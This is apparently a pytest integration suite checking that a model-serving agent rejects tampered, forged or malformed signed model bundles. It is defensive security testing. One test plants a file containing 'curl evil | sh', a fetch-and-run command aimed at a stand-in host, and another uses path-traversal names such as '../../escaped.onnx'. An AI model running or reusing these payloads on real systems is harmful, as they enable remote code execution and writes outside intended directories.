"""Attacks on bundle bytes and bundle signatures, each commanded by a properly signed
deployment command to a real agent serving det 1.0.0: the attack bundle is refused with
one line, nothing of it is installed, and det 1.0.0 keeps serving (``assert_untouched``).

What is shared (the serving agent, ``assert_untouched``) is in ``tests.support.attacks``."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec

from model_store import (
    METADATA_FILENAME,
    SIGNATURE_FILENAME,
    bundle_files,
    generate_private_key,
    load_private_key,
    load_public_key,
    verify_signature,
)
from model_store.digests import bundle_digest
from model_store.envelope import PAYLOAD_TYPE, decode_bundle, encode_bundle, pae
from model_store.keys import key_hint
from model_store.statement import ManifestEntry, build_statement
from protocol import EventKind, FileRef, ModelAssignment
from tests.support.attacks import (
    Serving,
    assert_untouched,
    attack,
    file_ref,
    make_bundle,
    module_serving,
    serving_v1,
    with_files,
    with_signature,
)
from tests.support.deploy import open_setup
from tests.support.mosquitto import Broker

pytestmark = pytest.mark.integration
MODEL = "model.onnx"


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serving]:
    with module_serving(tmp_path_factory, "attacks-bundle") as serving:
        yield serving


@pytest.fixture
def s(shared: Serving) -> Serving:
    shared.check_start()
    return shared


def _v2(s: Serving, version: str = "2.0.0", **build: Any) -> tuple[Path, ModelAssignment]:
    """A genuine det bundle (2.0.0), signed by the trusted release key, and its assignment."""
    bundle = make_bundle(s.setup, version, **build)
    return bundle, s.assignment(bundle)


def _flipped(data: bytes) -> bytes:
    out = bytearray(data)
    out[len(out) // 2] ^= 0xFF
    return bytes(out)


def _release_key(s: Serving) -> ec.EllipticCurvePrivateKey:
    return load_private_key(s.setup.kit.release_key)


def _signature(
    payload: bytes,
    key: ec.EllipticCurvePrivateKey,
    *,
    payload_type: str = PAYLOAD_TYPE,
    hint: str | None = None,
) -> bytes:
    """A model.sig made by hand: ``key`` signs the DSSE PAE of ``payload`` (of type
    ``payload_type``), in the Sigstore bundle layout upstream model_signing writes."""
    sig = key.sign(pae(payload, payload_type), ec.ECDSA(hashes.SHA256()))
    raw = json.loads(encode_bundle(payload, sig, hint or key_hint(key.public_key())))
    raw["dsseEnvelope"]["payloadType"] = payload_type
    return json.dumps(raw, separators=(",", ":")).encode()


def _statement(bundle: Path) -> bytes:
    """The genuine in-toto statement of ``bundle`` (what its model.sig signs)."""
    entries = [ManifestEntry(f.path, f.sha256) for f in bundle_files(bundle)]
    return build_statement("det", entries)


def _refused_before_download(s: Serving, a: ModelAssignment) -> None:
    assert not s.fetched(file_ref(a, MODEL))  # not a byte of the model was fetched


# -- bytes -----------------------------------------------------------------------------


@pytest.mark.parametrize("declared", ["recomputed bundle digest", "signed bundle digest"])
def test_attack_byte_flip(s: Serving, declared: str) -> None:
    """A file's bytes changed after signing and served under their new digest."""
    bundle, genuine = _v2(s)
    if declared == "recomputed bundle digest":  # the command describes the tampered files
        model = bundle / MODEL
        model.write_bytes(_flipped(model.read_bytes()))
        a = s.assignment(bundle)
        expected = f"signature is for bundle {genuine.bundle_digest[:12]}, not"
    else:  # the signed bundle digest, with the tampered file's digest
        model_ref = file_ref(genuine, MODEL)
        data = _flipped(s.setup.blobs.blobs[model_ref.sha256])
        tampered = FileRef(path=MODEL, sha256=s.setup.blobs.add(data), size=len(data))
        a = with_files(genuine, [file_ref(genuine, METADATA_FILENAME), tampered])
        expected = f"file list differs from the signed manifest at {MODEL!r}"
    assert file_ref(a, MODEL).sha256 != file_ref(genuine, MODEL).sha256
    assert expected in attack(s, a)
    _refused_before_download(s, a)
    assert_untouched(s, a)


def test_attack_extra_file(s: Serving) -> None:
    """A file the signature does not cover, added to the assignment."""
    _, genuine = _v2(s)
    payload = b"import os; os.system('curl evil | sh')\n"
    extra = FileRef(path="preprocess.py", sha256=s.setup.blobs.add(payload), size=len(payload))
    a = with_files(genuine, [*genuine.files, extra])
    reason = attack(s, a)
    assert "file list differs from the signed manifest at 'preprocess.py'" in reason
    assert not s.fetched(extra)
    assert_untouched(s, a)


def test_attack_missing_file(s: Serving) -> None:
    """A signed file (the labels) left out of the assignment."""
    labels = s.setup.tmp / "labels" / "labels.txt"
    labels.parent.mkdir(parents=True, exist_ok=True)
    labels.write_text("person\ncar\n")
    _, genuine = _v2(s, extra_files=[labels])
    a = with_files(genuine, [f for f in genuine.files if f.path != "labels.txt"])
    reason = attack(s, a)
    assert "file list differs from the signed manifest at 'labels.txt'" in reason
    _refused_before_download(s, a)
    assert_untouched(s, a)


@pytest.mark.parametrize("declared", ["a file of another version", "bytes of another version"])
def test_attack_mix_and_match(s: Serving, declared: str) -> None:
    """One file taken from another signed version's bundle."""
    _, a2 = _v2(s)
    _, a3 = _v2(s, "3.0.0")
    other = file_ref(a3, MODEL)
    if declared == "a file of another version":  # the command names v3's model.onnx
        a = with_files(a2, [file_ref(a2, METADATA_FILENAME), other])
        expected = f"file list differs from the signed manifest at {MODEL!r}"
    else:  # the command is v2's, the server hands out v3's model.onnx for it
        mine = file_ref(a2, MODEL)
        assert other.size == mine.size
        s.setup.blobs.blobs[mine.sha256] = s.setup.blobs.blobs[other.sha256]
        a = a2
        expected = f"{MODEL}: sha256 differs from the declared digest"
    assert expected in attack(s, a)
    assert_untouched(s, a)


@pytest.mark.parametrize("how", ["chunked", "content-length"])
def test_attack_oversize_download(s: Serving, how: str) -> None:
    """The server streams more bytes than the command declares."""
    _, a = _v2(s)
    ref = file_ref(a, MODEL)
    s.setup.blobs.blobs[ref.sha256] += b"\0" * (1 << 20)
    s.setup.blobs.chunked = how == "chunked"
    try:
        reason = attack(s, a)
    finally:
        s.setup.blobs.chunked = False
    if how == "chunked":  # no length announced: cut off by the agent's own count
        assert f"{MODEL}: more than the declared {ref.size} bytes" in reason
    else:
        assert f"{MODEL}: server announces {ref.size + (1 << 20)} bytes" in reason
    assert_untouched(s, a)


def test_attack_slow_drip(tmp_path: Path, mosquitto: Broker) -> None:
    """A server that drips the model one byte at a time is aborted at the total deadline."""
    with open_setup(tmp_path, mosquitto) as setup, serving_v1(setup, download_timeout_s=1.5) as s:
        s.check_start()
        _, a = _v2(s)
        setup.blobs.drip[file_ref(a, MODEL).sha256] = 0.02  # ~10 s for the model
        started = time.monotonic()
        reason = attack(s, a, EventKind.RETRYING)  # transient: the agent retries by itself
        assert f"{MODEL}: bundle download exceeded 1.5s" in reason
        assert time.monotonic() - started < 6
        assert_untouched(s, a, partial_kept=True)  # transient: the retry resumes it


# -- who signed ------------------------------------------------------------------------


@pytest.mark.parametrize("hint", ["its own key hint", "the trusted key's hint"])
def test_attack_untrusted_key(s: Serving, hint: str) -> None:
    """A bundle signed by a release key the trust document does not certify."""
    rogue = generate_private_key()
    if hint == "its own key hint":
        bundle, a = _v2(s, key=rogue)
        expected = "signature rejected: signed by an untrusted key"
    else:  # claims to be the trusted release key
        bundle, genuine = _v2(s)
        trusted = key_hint(load_public_key(s.setup.kit.release_pub))
        a = with_signature(s.setup, genuine, _signature(_statement(bundle), rogue, hint=trusted))
        expected = "signature rejected: signature does not verify against any trusted key"
    assert expected in attack(s, a)
    _refused_before_download(s, a)
    assert_untouched(s, a)


def test_attack_digest_edited_in_payload(s: Serving) -> None:
    """The in-toto payload's resource digest edited (to tampered bytes the server serves),
    subject digest made consistent, the original ECDSA signature kept: it no longer matches."""
    bundle, genuine = _v2(s)
    original = decode_bundle((bundle / SIGNATURE_FILENAME).read_bytes())
    statement = json.loads(original.payload)
    data = _flipped((bundle / MODEL).read_bytes())
    tampered = FileRef(path=MODEL, sha256=s.setup.blobs.add(data), size=len(data))
    resources = statement["predicate"]["resources"]
    for resource in resources:
        if resource["name"] == MODEL:
            resource["digest"] = tampered.sha256
    edited_digest = bundle_digest(r["digest"] for r in resources)
    statement["subject"][0]["digest"]["sha256"] = edited_digest
    payload = json.dumps(statement, indent=2).encode()
    forged = encode_bundle(payload, original.signature, original.key_hint or "")
    a = with_files(
        genuine, [file_ref(genuine, METADATA_FILENAME), tampered], bundle_digest=edited_digest
    )
    a = with_signature(s.setup, a, forged)
    reason = attack(s, a)
    assert "signature rejected: signature does not verify against any trusted key" in reason
    assert not s.fetched(tampered)
    assert_untouched(s, a)


# -- what the signature says -----------------------------------------------------------

_Trick = Callable[[Path], str]
TRICKS: dict[str, tuple[_Trick, str]] = {
    "dot-dot": (lambda tmp: "../../escaped.onnx", "'..' component"),
    "absolute path": (lambda tmp: str(tmp / "escaped" / "abs.onnx"), "absolute path"),
    "NUL byte": (lambda tmp: "model.onnx\x00.txt", "contains NUL"),
    "duplicate path": (lambda tmp: MODEL, "signed paths are duplicated or out of order"),
}


@pytest.mark.parametrize("trick", sorted(TRICKS))
def test_attack_path_tricks(s: Serving, trick: str) -> None:
    """A signed payload (the release key signs a hand-made in-toto statement) whose
    resources name an unsafe path, which the command also declares and the server serves."""
    make_path, expected = TRICKS[trick]
    bundle, genuine = _v2(s)
    evil = b"\x08evil model bytes"
    evil_ref = FileRef(path=make_path(s.setup.tmp), sha256=s.setup.blobs.add(evil), size=len(evil))
    entries = [ManifestEntry(f.path, f.sha256) for f in bundle_files(bundle)]
    entries.append(ManifestEntry(evil_ref.path, evil_ref.sha256))
    payload = build_statement("det", entries)
    subject = json.loads(payload)["subject"][0]["digest"]["sha256"]
    a = with_files(genuine, [*genuine.files, evil_ref], bundle_digest=subject)
    a = with_signature(s.setup, a, _signature(payload, _release_key(s)))
    reason = attack(s, a)
    assert reason.startswith("signature rejected: "), reason
    assert expected in reason
    assert not s.fetched(evil_ref)
    _refused_before_download(s, a)
    data_dir = s.agent.config.data_dir
    assert not (data_dir / "escaped.onnx").exists()
    assert not (s.setup.tmp / "escaped").exists()
    assert_untouched(s, a)


@pytest.mark.parametrize("case", ["404", "empty file"])
def test_attack_missing_signature(s: Serving, case: str) -> None:
    _, genuine = _v2(s)
    if case == "404":
        del s.setup.blobs.blobs[genuine.signature.sha256]
        a, expected = genuine, f"{SIGNATURE_FILENAME}: HTTP 404 from control plane"
    else:
        a = with_signature(s.setup, genuine, b"")
        expected = "signature rejected: malformed signature: not valid JSON"
    assert expected in attack(s, a)
    _refused_before_download(s, a)
    assert_untouched(s, a)


def _wrong_media_type(signature: bytes) -> bytes:
    raw = json.loads(signature)
    raw["mediaType"] = "application/vnd.dev.sigstore.bundle.v0.1+json"
    return json.dumps(raw, separators=(",", ":")).encode()


MALFORMED: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "not JSON": (lambda sig: b"this is not JSON {", "malformed signature: not valid JSON"),
    "truncated": (lambda sig: sig[: len(sig) // 2], "malformed signature: not valid JSON"),
    "wrong media type": (_wrong_media_type, "unsupported signature media type"),
    "signature not base64": (
        lambda sig: sig.replace(b'"sig":"', b'"sig":"!!'),
        "signatures[0].sig is not valid base64",
    ),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_attack_malformed_signature(s: Serving, case: str) -> None:
    bundle, genuine = _v2(s)
    mangle, expected = MALFORMED[case]
    a = with_signature(s.setup, genuine, mangle((bundle / SIGNATURE_FILENAME).read_bytes()))
    reason = attack(s, a)
    assert reason.startswith("signature rejected: ") and expected in reason, reason
    _refused_before_download(s, a)
    assert_untouched(s, a)


def test_attack_wrong_payload_type(s: Serving) -> None:
    """Validly signed by the release key, but the DSSE payloadType is another kind."""
    bundle, genuine = _v2(s)
    other = "application/vnd.edgefleet.desired-state.v1+json"
    signature = _signature(_statement(bundle), _release_key(s), payload_type=other)
    a = with_signature(s.setup, genuine, signature)
    reason = attack(s, a)
    assert f"signature rejected: unsupported payload type {other!r}" in reason
    _refused_before_download(s, a)
    assert_untouched(s, a)


def test_attack_wrong_predicate_type(s: Serving) -> None:
    """Validly signed by the release key, but the in-toto predicateType is another one."""
    bundle, genuine = _v2(s)
    statement = json.loads(_statement(bundle))
    statement["predicateType"] = "https://slsa.dev/provenance/v1"
    payload = json.dumps(statement, indent=2).encode()
    a = with_signature(s.setup, genuine, _signature(payload, _release_key(s)))
    reason = attack(s, a)
    assert "signature rejected: unsupported predicate type 'https://slsa.dev/provenance/v1'" in (
        reason
    )
    _refused_before_download(s, a)
    assert_untouched(s, a)


def test_hand_made_signatures_verify_when_nothing_is_wrong(s: Serving) -> None:
    """Control for the hand-made signatures above: the same crafting, of the genuine
    statement with the trusted release key, verifies (so each refusal above is due to
    the one defect it plants, not to the crafting)."""
    bundle, genuine = _v2(s)
    statement = _statement(bundle)
    assert decode_bundle((bundle / SIGNATURE_FILENAME).read_bytes()).payload == statement
    trusted = [load_public_key(s.setup.kit.release_pub)]
    manifest = verify_signature(_signature(statement, _release_key(s)), trusted)
    assert manifest.bundle_digest == genuine.bundle_digest
    assert {(e.path, e.sha256) for e in manifest.files} == {
        (f.path, f.sha256) for f in genuine.files
    }
